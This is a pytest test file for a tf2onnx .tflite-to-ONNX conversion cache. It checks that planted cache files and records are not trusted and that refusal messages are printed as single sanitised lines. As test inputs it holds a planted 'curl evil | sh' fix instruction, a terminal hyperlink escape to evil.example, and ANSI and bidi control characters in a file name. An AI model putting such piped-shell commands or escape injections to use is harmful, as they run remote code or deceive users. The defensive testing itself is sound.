"""The ``.tflite`` -> ONNX cache (issue 47): a tf2onnx timeout is kept, planted cache files are not trusted, and a
refusal is one safe line wherever it comes from. Real tf2onnx on real ``.tflite`` files, built here with TensorFlow's
converter in a child process: ``relu(2x + 1)``, which tf2onnx converts, and GELU, which it refuses (``TFL_GELU``).
"""

from __future__ import annotations

import hashlib
import json
import re
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import onnx
import pytest
from onnx import TensorProto, helper

from autodeploy import tflite_onnx
from autodeploy.child import child_env
from autodeploy.errors import ConversionError

pytestmark = pytest.mark.slow

_BUILD = """
import sys, tensorflow as tf
ops = {"relu": lambda x: tf.nn.relu(x * 2.0 + 1.0), "gelu": tf.nn.gelu}
for name in sys.argv[2:]:
    f = tf.function(lambda x, op=ops[name]: {"y": op(x)}, input_signature=[tf.TensorSpec([1, 4], tf.float32, name="x")])
    converter = tf.lite.TFLiteConverter.from_concrete_functions([f.get_concrete_function()], f)
    open(f"{sys.argv[1]}/{name}.tflite", "wb").write(converter.convert())
"""
REFUSED = "tf2onnx has no ONNX conversion for TFLite op TFL_GELU of gelu.tflite"
X = np.array([[-1.0, 0.0, 1.0, 2.0]], np.float32)
#: What must never reach a terminal: C0/C1 control characters and the bidirectional overrides.
CONTROL = re.compile("[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


@pytest.fixture(scope="module")
def tflites(tmp_path_factory) -> Path:
    """A folder with ``relu.tflite`` and ``gelu.tflite``, written by TensorFlow's TFLite converter."""
    why = tflite_onnx.missing()
    if why is not None:
        pytest.skip(why)
    folder = tmp_path_factory.mktemp("tflite")
    subprocess.run([sys.executable, "-c", _BUILD, str(folder), "relu", "gelu"], check=True, capture_output=True,
                   env=child_env(TF_CPP_MIN_LOG_LEVEL="3"), timeout=300)  # fmt: skip
    return folder


def _to_onnx(tflite: Path, cache: Path) -> tuple[Path, dict]:
    return tflite_onnx.to_onnx(tflite, hashlib.sha256(tflite.read_bytes()).hexdigest(), cache)


def _computes_relu(onnx_path: Path) -> bool:
    import onnxruntime as ort

    session = ort.InferenceSession(str(onnx_path), providers=["CPUExecutionProvider"])
    (y,) = session.run(None, {session.get_inputs()[0].name: X})
    return np.allclose(y, np.maximum(2 * X + 1, 0))


def _identity(path: Path) -> None:
    """A planted ONNX: ``y = x``, a valid model that computes something else."""
    value = helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])
    graph = helper.make_graph([helper.make_node("Identity", ["x"], ["Identity"])], "planted", [value],
                              [helper.make_tensor_value_info("Identity", TensorProto.FLOAT, [1, 4])])  # fmt: skip
    onnx.save(helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)]), str(path))


def _sealed(body: dict) -> str:
    """``body`` with the digest of its own content, as the cache writes a record: what anyone who can write the
    cache can compute too."""
    canonical = json.dumps(body, sort_keys=True, separators=(",", ":")).encode()
    return json.dumps({**body, "digest": hashlib.sha256(canonical).hexdigest()})


def _bound(sha256: str) -> dict:
    """What a record of this file's conversion names: the file, the installed tf2onnx and TensorFlow, the opset."""
    from importlib.metadata import version

    return {"source_sha256": sha256, "tf2onnx": version("tf2onnx"), "tensorflow": version("tensorflow"),
            "opset": 17}  # fmt: skip


def _kept(cache: Path, text: str) -> Path:
    """The one cache file that holds ``text`` (a converter's reason, a version), whatever its layout."""
    (found,) = [p for p in cache.rglob("*") if p.is_file() and text in p.read_text(errors="replace")]
    return found


def test_a_timeout_is_kept_said_again_at_once_a_longer_one_tries_again(tflites, tmp_path, monkeypatch):
    monkeypatch.setattr(tflite_onnx, "CONVERT_TIMEOUT_S", 0.5)  # the child's TensorFlow import takes longer
    with pytest.raises(ConversionError) as first:
        _to_onnx(tflites / "relu.tflite", tmp_path)
    assert str(first.value).startswith("tf2onnx did not convert relu.tflite within 0.5 s; it was stopped")

    with monkeypatch.context() as again:  # the same timeout: the kept line at once, no child started
        again.setattr(tflite_onnx, "_convert_in_child", lambda *a: pytest.fail("converted again"))
        start = time.monotonic()
        with pytest.raises(ConversionError) as second:
            _to_onnx(tflites / "relu.tflite", tmp_path)
        assert time.monotonic() - start < 0.5
    assert str(second.value) == str(first.value)

    monkeypatch.setattr(tflite_onnx, "CONVERT_TIMEOUT_S", 600.0)  # a longer timeout tries again, and converts
    onnx_path, record = _to_onnx(tflites / "relu.tflite", tmp_path)
    assert _computes_relu(onnx_path) and record["tf2onnx"] == tflite_onnx.version()
    assert not list(tmp_path.rglob("refused.json")) and not list(tmp_path.rglob("failed.txt"))


def test_a_planted_onnx_is_converted_again_not_used(tflites, tmp_path):
    onnx_path, _ = _to_onnx(tflites / "relu.tflite", tmp_path)
    _identity(onnx_path)  # swapped beside its record
    again, _ = _to_onnx(tflites / "relu.tflite", tmp_path)
    assert again == onnx_path and _computes_relu(again)


@pytest.mark.parametrize("sealed", [False, True], ids=["plain-record", "record-with-its-digest"])
def test_a_planted_record_naming_another_converter_is_not_shipped(tflites, tmp_path, sealed):
    """The versions come from the installed packages, even from a record whose digest matches its content."""
    onnx_path, _ = _to_onnx(tflites / "relu.tflite", tmp_path)
    record_path = onnx_path.parent / "convert.json"
    planted = {**json.loads(record_path.read_text()), "tf2onnx": "9.9.9-audited", "tensorflow": "9.9-audited"}
    planted.pop("digest", None)
    record_path.write_text(_sealed(planted) if sealed else json.dumps(planted))
    _, record = _to_onnx(tflites / "relu.tflite", tmp_path)
    assert "audited" not in json.dumps(record)
    assert (record["tf2onnx"], record["tensorflow"]) == (_bound("")["tf2onnx"], _bound("")["tensorflow"])
    assert _computes_relu(onnx_path) and "audited" not in record_path.read_text()


def test_a_planted_refusal_is_not_printed_the_file_is_converted(tflites, tmp_path):
    folder = tmp_path / f"{hashlib.sha256((tflites / 'relu.tflite').read_bytes()).hexdigest()[:24]}-tf2onnx{tflite_onnx.version()}"  # fmt: skip
    folder.mkdir()
    (folder / "failed.txt").write_text("tf2onnx 9.9.9-audited refused relu.tflite; fix: run curl evil | sh\n")
    onnx_path, record = _to_onnx(tflites / "relu.tflite", tmp_path)
    assert _computes_relu(onnx_path) and record["tf2onnx"] == tflite_onnx.version()


def test_a_kept_refusal_changed_in_the_cache_is_not_printed(tflites, tmp_path):
    """A real refusal, kept; its reason then rewritten in the cache: the converter runs again and says its own."""
    with pytest.raises(ConversionError, match=f"^{REFUSED}"):
        _to_onnx(tflites / "gelu.tflite", tmp_path)
    kept = _kept(tmp_path, "TFL_GELU")
    kept.write_text(kept.read_text().replace("no ONNX conversion for TFLite op TFL_GELU", "9.9.9-audited"))
    with pytest.raises(ConversionError) as again:
        _to_onnx(tflites / "gelu.tflite", tmp_path)
    assert str(again.value).startswith(REFUSED)
    assert "audited" not in str(again.value)


def _safe(line: str) -> bool:
    return not CONTROL.search(line) and len(line) <= 600  # no line break, escape or override; bounded


def test_the_converters_own_refusal_is_one_safe_line(tflites, tmp_path):
    """The file's name is in tf2onnx's reason: an ANSI escape and a line break in it are shown, not obeyed."""
    hostile = tmp_path / "g\x1b[2J\u202eel\nu.tflite"
    hostile.write_bytes((tflites / "gelu.tflite").read_bytes())
    with pytest.raises(ConversionError) as refused:
        _to_onnx(hostile, tmp_path / "cache")
    assert _safe(str(refused.value)) and "TFL_GELU" in str(refused.value), str(refused.value)
    assert "g\\x1b[2J\\u202eel u.tflite" in str(refused.value)


def test_a_refusal_read_back_is_one_safe_line_even_with_its_digest(tflites, tmp_path):
    """What a digest cannot prove (whoever writes the cache can write a matching one): the text is still one
    bounded line without control characters, in either layout."""
    sha256 = hashlib.sha256((tflites / "relu.tflite").read_bytes()).hexdigest()
    folder = tmp_path / f"{sha256[:24]}-tf2onnx{tflite_onnx.version()}"
    folder.mkdir()
    text = "tf2onnx refused\n\x1b]8;;https://evil.example\x07click\x1b]8;;\x07 " + "A" * 5000
    (folder / "refused.json").write_text(_sealed({**_bound(sha256), "reason": text, "timeout_s": None}))
    (folder / "failed.txt").write_text(text)
    with pytest.raises(ConversionError) as refused:
        _to_onnx(tflites / "relu.tflite", tmp_path)
    said = str(refused.value)
    assert _safe(said) and said.startswith("tf2onnx refused \\x1b]8;;https://evil"), said
